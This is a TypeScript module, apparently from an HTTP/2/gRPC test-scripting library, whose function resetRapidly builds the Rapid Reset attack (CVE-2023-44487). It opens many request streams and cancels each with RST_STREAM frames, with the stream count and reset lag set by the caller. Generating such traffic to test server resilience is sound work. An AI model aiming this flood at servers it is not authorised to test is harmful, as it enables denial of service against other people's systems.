import { encodeMessage } from '../grpc/length-prefixed-message';
import { ordinaryFields, type CallOptions, type PlanBuilder } from '../grpc/plan-builder';
import type { CallRequest } from '../grpc/call-request';
import { rstStream } from '../wire/builders';
import { errorCodes } from '../wire/error-codes';
import { joinOctets } from '../wire/join-octets';

export interface RapidResets extends Pick<CallOptions, 'metadata'> {
  /** Connection; opened if it is not. */
  readonly on: string;
  /** Number of streams. */
  readonly count: number;
  /** Streams by which the resets lag behind the requests; 0 resets each stream at once. */
  readonly lag: number;
}

/**
 * Complete requests, each of them reset at once (CVE-2023-44487). They are no calls of the script: nobody judges thousands of streams that were meant to
 * come to nothing.
 * @returns the stream id that a call afterwards must take
 */
export function resetRapidly(
  script: PlanBuilder,
  request: CallRequest,
  { on, count, lag, metadata }: RapidResets,
): number {
  if (!script.openConnections.includes(on)) script.open({ on });
  const fields = ordinaryFields(script.facts, request.path, metadata === undefined ? {} : { metadata });
  const octets = joinOctets(request.messages.map((message) => encodeMessage(message)));
  const first = script.nextStream(on);
  const streamOf = (index: number): number => first + 2 * index;
  for (let index = 0; index < count + lag; index++) {
    if (index < count) {
      const stream = streamOf(index);
      script.step({ do: 'headers', on, stream, fields, endStream: false });
      script.step({ do: 'data', on, stream, octets, endStream: true });
    }
    if (index >= lag) script.frame(rstStream(streamOf(index - lag), errorCodes.CANCEL), on);
  }
  return streamOf(count);
}
